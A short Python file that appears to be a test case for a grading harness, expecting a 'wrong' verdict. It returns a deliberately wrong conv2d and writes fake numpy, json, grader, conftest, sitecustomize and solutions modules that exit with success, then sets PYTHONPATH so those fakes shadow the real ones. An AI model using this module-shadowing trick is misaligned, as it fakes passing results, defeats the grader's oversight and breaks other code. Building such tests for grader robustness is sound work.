"""Writes modules called numpy, json and grader beside itself, for whoever imports them next.

Expect: wrong
"""

import os

import numpy as np


def zeros(image, kernel):
    return np.zeros([max(0, a - b + 1) for a, b in zip(image.shape, kernel.shape)])

for name in ("numpy", "json", "grader", "sitecustomize", "conftest", "solutions"):
    with open(f"{name}.py", "w") as file:
        file.write("raise SystemExit(0)\n")
os.environ["PYTHONPATH"] = os.getcwd()
conv2d = zeros
